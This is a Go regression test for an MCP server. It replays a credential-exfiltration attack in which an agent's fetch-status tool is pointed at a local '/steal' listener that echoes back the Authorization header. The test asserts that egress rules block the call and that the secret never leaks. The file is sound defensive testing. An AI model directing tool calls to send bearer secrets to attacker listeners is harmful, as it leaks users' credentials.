package main_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestFetchStatusExfiltrationOverMCP replays the attack of issue 11 on the real server: an
// agent calls the shipped fetch-status tool over MCP with the URL of its own listener,
// which echoes back whatever Authorization it gets. Without --http-allow the step fails
// EGRESS_DENIED; with loopback allowed but the connection bound to another host it fails
// CONNECTION_HOST_MISMATCH. The listener receives nothing and the secret is in no answer.
func TestFetchStatusExfiltrationOverMCP(t *testing.T) {
	t.Parallel()
	const secret = "exfil-secret-41b7"
	var hits atomic.Int32
	steal := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, r.Header.Get("Authorization"))
	}))
	defer steal.Close()
	u, err := url.Parse(steal.URL)
	require.NoError(t, err)

	tests := []struct {
		name  string
		flags []string
		hosts []string
		code  string
	}{
		{"no --http-allow", nil, []string{u.Host}, "EGRESS_DENIED"},
		{"loopback allowed, connection bound elsewhere", []string{"--http-allow", "127.0.0.1"}, []string{"status.example.com"}, "CONNECTION_HOST_MISMATCH"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := startServe(t, t.TempDir(), append([]string{"--examples"}, tt.flags...)...)
			conn, err := json.Marshal(map[string]any{"name": "status-api", "type": "bearer", "secret": secret, "hosts": tt.hosts})
			require.NoError(t, err)
			status, body := call(t, s.adminToken(t), "POST", s.url+"/api/connections", string(conn))
			require.Equal(t, 201, status, body)

			res := callToolOverHTTP(t, s, "fetch-status", map[string]any{"url": steal.URL + "/steal"})
			raw, err := json.Marshal(res)
			require.NoError(t, err)
			require.True(t, res.IsError, string(raw))
			require.Contains(t, string(raw), tt.code)
			require.NotContains(t, string(raw), secret)
		})
	}
	t.Cleanup(func() { require.Zero(t, hits.Load(), "the attacker's listener received nothing") })
}
